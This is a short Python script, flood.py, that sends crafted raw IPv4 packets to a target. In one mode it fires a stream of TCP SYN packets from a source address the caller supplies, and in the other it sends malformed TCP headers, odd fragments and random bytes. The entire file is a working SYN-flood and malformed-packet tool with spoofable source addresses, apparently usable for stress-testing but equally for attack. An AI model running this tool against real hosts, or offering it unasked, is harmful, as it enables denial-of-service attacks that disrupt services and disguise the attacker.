#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Raw IPv4 packets: many SYNs, or what no TCP would send.

Usage: flood.py syn|garbage SRC DST PORT COUNT
"""
import random
import socket
import struct
import sys

what, src, dst, port, count = sys.argv[1:]
src_octets, dst_octets = socket.inet_aton(src), socket.inet_aton(dst)
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
chance = random.Random(1)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(payload, fragment=0):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, fragment,
                       64, 6, 0, src_octets, dst_octets) + payload


def syn(from_port):
    header = struct.pack("!HHIIBBHHH", from_port, int(port), from_port, 0, 0x50, 2, 100, 0, 0)
    check = checksum(src_octets + dst_octets + struct.pack("!BBH", 0, 6, 20) + header)
    return header[:16] + struct.pack("!H", check) + header[18:]


def garbage(i):
    octets = chance.randbytes(chance.randrange(0, 80))
    if i % 4 == 0:  # a TCP header with an impossible length
        return ip(syn(i % 60000)[:12] + b"\x10" + octets)
    if i % 4 == 1:  # fragments
        return ip(syn(i % 60000) + octets[: len(octets) // 8 * 8], 0x2000 | i % 3)
    return ip(octets)


for i in range(int(count)):
    packet = ip(syn(1024 + i)) if what == "syn" else garbage(i)
    try:
        out.sendto(packet, (dst, 0))
    except OSError:
        pass
